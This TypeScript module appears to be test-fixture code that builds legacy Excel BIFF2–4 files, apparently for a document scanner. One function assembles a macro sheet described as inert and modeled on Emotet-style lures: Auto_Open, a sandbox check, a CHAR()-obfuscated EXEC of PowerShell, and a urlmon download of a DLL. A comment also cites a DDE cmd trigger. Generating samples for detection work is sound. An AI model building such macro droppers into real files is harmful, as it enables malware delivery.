/**
 * Excel 2.x–4.0 files built in code: BIFF2, BIFF3 and BIFF4 record streams (OpenOffice.org's
 * "Microsoft Excel File Format", sections 4–5) — one worksheet or Excel 4.0 macro sheet per file
 * (`.xls`/`.xlm`), or a BIFF4W workbook bundling sheets. Records: BOF (0x0009/0x0209/0x0409),
 * CODEPAGE, NAME (0x0018/0x0218), LABEL (0x0004/0x0204), NUMBER (0x0003/0x0203), FORMULA
 * (0x0006/0x0206/0x0406) with a cached STRING (0x0007/0x0207), BUNDLESHEET, EOF. Plus an inert
 * Auto_Open + EXEC/CALL XLM macro sheet, the shape attackers still send as BIFF4 `.xlm`.
 */
import { concatBytes } from '../../src/core/index.js';
import { record, EMOTET_COMMAND, EMOTET_URL, charChain } from './biff.js';
import { compileFormula, parseCell, type CompileContext } from './xlm-formula.js';

export type LegacyVersion = 2 | 3 | 4;

export interface LegacyCellSpec {
  ref: string;
  formula?: string;
  /** Raw token bytes instead of `formula` (hostile tokens). */
  rgce?: Uint8Array;
  value?: string | number | boolean;
}

export interface LegacyNameSpec {
  name: string;
  /** BIFF3/4: written as the one built-in character (Auto_Open = 0x01) with option 0x0020. */
  isBuiltin?: boolean;
  isHidden?: boolean;
  /** Marks a command macro (option fProc; BIFF2's function bit). */
  isMacro?: boolean;
  formula: string;
}

/**
 * One EXTERNSHEET of a sheet's link table (0x0017) with its EXTERNNAMEs (0x0023 BIFF2, 0x0223 BIFF3/4).
 * `dde` writes `application` 03H `topic`; `document` is written as given (control characters too).
 */
export interface LegacyExternSheetSpec {
  dde?: { application: string; topic: string };
  document?: string;
  names?: { name: string; isOle?: boolean }[];
}

export interface LegacySheetSpec {
  type?: 'worksheet' | 'macro';
  /** The local link table, written after CODEPAGE (EXTERNCOUNT, then each EXTERNSHEET and its names). */
  externSheets?: LegacyExternSheetSpec[];
  names?: LegacyNameSpec[];
  cells: LegacyCellSpec[];
  /** Records appended before the EOF. */
  extraRecords?: Uint8Array[];
}

export interface LegacyWorkbookSpec {
  version: LegacyVersion;
  sheets: (LegacySheetSpec & { name: string; state?: 'visible' | 'hidden' | 'very-hidden' })[];
}

const BUILTIN: Record<string, number> = { auto_open: 1, auto_close: 2 };

class Out {
  readonly b: number[] = [];
  u8(n: number): this {
    this.b.push(n & 0xff);
    return this;
  }
  u16(n: number): this {
    this.b.push(n & 0xff, (n >> 8) & 0xff);
    return this;
  }
  u32(n: number): this {
    this.b.push(n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff);
    return this;
  }
  f64(n: number): this {
    const x = new Uint8Array(8);
    new DataView(x.buffer).setFloat64(0, n, true);
    this.b.push(...x);
    return this;
  }
  raw(x: Uint8Array | number[]): this {
    this.b.push(...x);
    return this;
  }
  latin1(s: string): this {
    for (const c of s) this.b.push(c.charCodeAt(0) & 0xff);
    return this;
  }
  get bytes(): Uint8Array {
    return Uint8Array.from(this.b);
  }
}

const BOF_TYPE = { 2: 0x0009, 3: 0x0209, 4: 0x0409 } as const;
const DT = { worksheet: 0x0010, macro: 0x0040, workspace: 0x0100 } as const;

function bof(version: LegacyVersion, dt: number): Uint8Array {
  const data = new Out().u16(version === 2 ? 0x0002 : version === 3 ? 0x0003 : 0x0004).u16(dt);
  if (version > 2) data.u16(0); // BIFF3/4: 2 more bytes, unused
  return record(BOF_TYPE[version], data.bytes);
}

/** A single sheet file (`.xlm` when `type` is macro). */
export function buildLegacySheet(version: LegacyVersion, spec: LegacySheetSpec): Uint8Array {
  return concatBytes(sheetRecords(version, spec));
}

/** A BIFF4W workbook: globals with BUNDLESHEET records, then each sheet's BOF … EOF. */
export function buildLegacyWorkbook(spec: LegacyWorkbookSpec): Uint8Array {
  const sheets = spec.sheets.map((s) => concatBytes(sheetRecords(spec.version, s)));
  const head = (offsets: number[]) =>
    concatBytes([
      bof(spec.version, DT.workspace),
      ...spec.sheets.map((s, i) => {
        const state = { visible: 0, hidden: 1, 'very-hidden': 2 }[s.state ?? 'visible'];
        const data = new Out()
          .u32(offsets[i] ?? 0)
          .u16(state)
          .u8(s.name.length)
          .latin1(s.name);
        return record(0x008f, data.bytes);
      }),
      record(0x000a),
    ]);
  let at = head(sheets.map(() => 0)).length;
  const offsets = sheets.map((s) => ((at += s.length), at - s.length));
  return concatBytes([head(offsets), ...sheets]);
}

function sheetRecords(version: LegacyVersion, spec: LegacySheetSpec): Uint8Array[] {
  const names = spec.names ?? [];
  const ctx: CompileContext = { dialect: version, sheets: [], names: names.map((n) => n.name) };
  const out = [bof(version, DT[spec.type ?? 'worksheet'])];
  out.push(record(0x0042, new Out().u16(1252).bytes));
  out.push(...linkTable(version, spec.externSheets ?? []));
  for (const n of names) out.push(nameRecord(version, n, ctx));
  for (const cell of spec.cells) out.push(...cellRecords(version, cell, ctx));
  out.push(...(spec.extraRecords ?? []), record(0x000a));
  return out;
}

function nameRecord(version: LegacyVersion, n: LegacyNameSpec, ctx: CompileContext): Uint8Array {
  const code = BUILTIN[n.name.toLowerCase()];
  const isBuiltin = version > 2 && n.isBuiltin === true && code !== undefined;
  const text = isBuiltin ? String.fromCharCode(code) : n.name;
  const rgce = compileFormula(n.formula, ctx);
  if (version === 2) {
    const data = new Out()
      .u8(n.isMacro ? 0x02 : 0)
      .u8(0)
      .u8(0)
      .u8(text.length)
      .u8(rgce.length);
    return record(0x0018, data.latin1(text).raw(rgce).bytes);
  }
  const flags = (n.isHidden ? 0x0001 : 0) | (n.isMacro ? 0x000a : 0) | (isBuiltin ? 0x0020 : 0);
  const data = new Out().u16(flags).u8(0).u8(text.length).u16(rgce.length);
  return record(0x0218, data.latin1(text).raw(rgce).bytes);
}

function cellHead(version: LegacyVersion, ref: string): Out {
  const { row, col } = parseCell(ref);
  const out = new Out().u16(row).u16(col);
  return version === 2 ? out.u8(0).u8(0).u8(0) : out.u16(0x0f);
}

function cellRecords(v: LegacyVersion, cell: LegacyCellSpec, ctx: CompileContext): Uint8Array[] {
  const isBiff2 = v === 2;
  if (cell.formula === undefined && cell.rgce === undefined) {
    if (typeof cell.value === 'string') {
      const head = cellHead(v, cell.ref);
      (isBiff2 ? head.u8(cell.value.length) : head.u16(cell.value.length)).latin1(cell.value);
      return [record(isBiff2 ? 0x0004 : 0x0204, head.bytes)];
    }
    if (typeof cell.value === 'number')
      return [record(isBiff2 ? 0x0003 : 0x0203, cellHead(v, cell.ref).f64(cell.value).bytes)];
    return [];
  }
  const rgce = cell.rgce ?? compileFormula(cell.formula!, ctx);
  const head = cellHead(v, cell.ref);
  const isText = typeof cell.value === 'string';
  if (isText) head.raw([0, 0, 0, 0, 0, 0, 0xff, 0xff]);
  else if (typeof cell.value === 'boolean')
    head.raw([1, 0, cell.value ? 1 : 0, 0, 0, 0, 0xff, 0xff]);
  else head.f64(typeof cell.value === 'number' ? cell.value : 0);
  if (isBiff2) head.u8(0).u8(rgce.length);
  else head.u16(0).u16(rgce.length);
  const out = [record({ 2: 0x0006, 3: 0x0206, 4: 0x0406 }[v], head.raw(rgce).bytes)];
  if (isText) {
    const s = cell.value as string;
    const data = isBiff2 ? new Out().u8(s.length) : new Out().u16(s.length);
    out.push(record(isBiff2 ? 0x0007 : 0x0207, data.latin1(s).bytes));
  }
  return out;
}

/**
 * An inert Excel 4.0 macro sheet as attackers send it in BIFF4 (`.xlm`/`.xls`): Auto_Open at A1,
 * a sandbox check, FORMULA writing an `=EXEC("powershell …")` built from CHAR() calls into A5, and
 * CALL of urlmon URLDownloadToFileA on a TEST-NET address. Nothing in it can run anywhere.
 */
export function legacyXlmSpec(): LegacySheetSpec {
  const exec = `=EXEC("${EMOTET_COMMAND.replace(/"/g, '""')}")`;
  const third = Math.ceil(exec.length / 3);
  const parts = [0, 1, 2].map((i) => charChain(exec.slice(i * third, (i + 1) * third)));
  return {
    type: 'macro',
    names: [{ name: 'Auto_Open', isBuiltin: true, isMacro: true, formula: '$A$1' }],
    cells: [
      { ref: 'A1', formula: 'IF(GET.WORKSPACE(13)<770,HALT(),)', value: false },
      { ref: 'A2', formula: 'FORMULA(B1&B2&B3,A5)' },
      {
        ref: 'A3',
        formula: `CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"${EMOTET_URL}","C:\\Users\\Public\\l.dll",0,0)`,
      },
      { ref: 'A6', formula: 'HALT()' },
      { ref: 'B1', formula: parts[0]! },
      { ref: 'B2', formula: parts[1]! },
      { ref: 'B3', formula: parts[2]! },
    ],
  };
}

function linkTable(version: LegacyVersion, sheets: LegacyExternSheetSpec[]): Uint8Array[] {
  if (sheets.length === 0) return [];
  const out = [record(0x0016, new Out().u16(sheets.length).bytes)]; // EXTERNCOUNT
  for (const sheet of sheets) {
    const name = sheet.dde
      ? `${sheet.dde.application}\u0003${sheet.dde.topic}`
      : (sheet.document ?? '\u0002');
    out.push(record(0x0017, new Out().u8(name.length).latin1(name).bytes));
    for (const n of sheet.names ?? []) {
      const data = version === 2 ? new Out() : new Out().u16(n.isOle ? 0x0010 : 0x0002);
      out.push(
        record(version === 2 ? 0x0023 : 0x0223, data.u8(n.name.length).latin1(n.name).bytes),
      );
    }
  }
  return out;
}

/**
 * BIFF2–4 tokens of an external reference: PtgSheet (0x1A: 4 unused bytes, the 1-based EXTERNSHEET
 * index, 1 (BIFF2) or 4 unused bytes), the operand, PtgEndSheet (0x1B: 3 or 4 unused bytes). With
 * `name`, the operand is PtgName of that EXTERNNAME — a DDE item, `=cmd|'/c …'!A0`; else `operand`.
 */
export function legacyExternRef(
  version: LegacyVersion,
  ixals: number,
  operand: { name: number } | { rgce: Uint8Array },
): Uint8Array {
  const isBiff2 = version === 2;
  const sheet = new Out()
    .u8(0x1a)
    .u32(0)
    .u16(ixals)
    .raw(new Array(isBiff2 ? 1 : 4).fill(0));
  const body =
    'name' in operand
      ? new Out()
          .u8(0x43)
          .u16(operand.name)
          .raw(new Array(isBiff2 ? 5 : 8).fill(0)).bytes
      : operand.rgce;
  const end = new Out().u8(0x1b).raw(new Array(isBiff2 ? 3 : 4).fill(0));
  return concatBytes([sheet.bytes, body, end.bytes]);
}
